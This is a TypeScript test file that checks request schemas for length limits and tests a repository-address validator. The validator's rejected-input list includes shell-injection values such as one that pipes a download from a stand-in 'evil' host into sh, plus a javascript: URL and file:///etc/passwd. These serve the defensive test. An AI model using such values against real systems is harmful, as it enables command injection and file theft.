import { describe, expect, test } from "vitest";
import { z } from "zod";
import { isUsableAddress } from "./addresses.ts";
import { credentials } from "./login.ts";
import { openApiDocument } from "./openapi/openapi.ts";
import { operations } from "./operations.ts";

type Schema = Record<string, unknown>;
const isSchema = (value: unknown): value is Schema =>
  typeof value === "object" && value !== null && !Array.isArray(value);

/** Places in a schema that accept text of any length. `{}` accepts anything, but is not read. */
function unbounded(schema: unknown, place: string): string[] {
  if (Array.isArray(schema)) return schema.flatMap((one, index) => unbounded(one, `${place}[${index}]`));
  if (!isSchema(schema)) return [];
  const isText = schema.type === "string" || (Array.isArray(schema.type) && schema.type.includes("string"));
  const bounded = ["maxLength", "enum", "const"].some((keyword) => keyword in schema) || schema.format === "binary";
  const inside = Object.entries(schema).flatMap(([key, value]) => {
    if (["properties", "$defs"].includes(key) && isSchema(value))
      return Object.entries(value).flatMap(([name, field]) => unbounded(field, `${place}.${name}`));
    return ["items", "anyOf", "oneOf", "allOf", "prefixItems", "additionalProperties"].includes(key)
      ? unbounded(value, place)
      : [];
  });
  return [...(isText && !bounded ? [place] : []), ...inside];
}

const inputOf = (shape: z.ZodType) => z.toJSONSchema(shape, { io: "input", unrepresentable: "any" });

describe("every text in a request has a maximum length", () => {
  test("in what the server reads", () => {
    const found = unbounded(inputOf(credentials), "login");
    let read = 0;
    for (const [name, { answer, body }] of Object.entries(operations)) {
      if (typeof body === "object" && "json" in body) found.push(...unbounded(inputOf(body.json), name));
      if (typeof body === "object" && "form" in body) found.push(...unbounded(inputOf(body.form), name));
      const filters = answer !== "nothing" && "list" in answer ? answer.list.filters : {};
      for (const [filter, shape] of Object.entries<z.ZodType>(filters)) {
        read += 1;
        found.push(...unbounded(inputOf(shape), `${name} ?${filter}`));
      }
    }
    expect(found).toEqual([]);
    expect(read).toBeGreaterThan(50);
  });

  test("in the description of the API", () => {
    const { paths } = openApiDocument("test", "http://localhost");
    const found = Object.entries(paths).flatMap(([path, methods]) =>
      Object.entries(methods).flatMap(([method, { parameters = [], requestBody }]) => {
        const schemas = parameters.filter(({ schema }) => !(isSchema(schema) && schema.format === "date-time"));
        const content = isSchema(requestBody?.content) ? Object.values(requestBody.content) : [];
        return [...schemas, ...content.filter(isSchema)].flatMap(({ name, schema }) =>
          unbounded(schema, `${method} ${path} ${String(name ?? "body")}`),
        );
      }),
    );
    expect(found).toEqual([]);
  });

  test("and a schema without one is detected", () => {
    const shape = z.object({ a: z.string().max(5), b: z.array(z.union([z.int(), z.string().nullish()])) });
    expect(unbounded(inputOf(shape), "x")).toEqual(["x.b[1]"]);
  });
});

describe("an address of a repository", () => {
  test.each([
    "http://localhost:8017/repo/reef",
    "HTTPS://packages.example.org/repo/bay%20of%20fundy/",
    "http://[::1]:8017/r/~reef",
    "https://xn--bcher-kva.example/r/a.b_c-d,e+f@1",
    `https://example.org/${"a".repeat(980)}`,
  ])("may be %j", (address) => expect(isUsableAddress(address)).toBe(true));

  test.each([
    "javascript:alert(1)",
    "data:text/html,x",
    "ftp://example.org/",
    "file:///etc/passwd",
    "//example.org/r",
    "http:example.org",
    "http://",
    "http://x/$(curl evil|sh)",
    "http://x/$(id)",
    "http://x/`id`",
    "http://x/;id",
    "http://x/&id",
    "http://x/'",
    'http://x/"',
    "http://x/a b",
    " http://x/",
    "http://x/\n",
    "http://x/\u0000",
    "http://x/\u202e",
    "http://x/\\evil",
    "http://x/<script>",
    "http://x/%zz",
    "http://x/%0a",
    "http://x/%7F",
    "http://user:secret@x/",
    "http://bücher.example/",
    `https://example.org/${"a".repeat(1000)}`,
  ])("may not be %j", (address) => expect(isUsableAddress(address)).toBe(false));
});
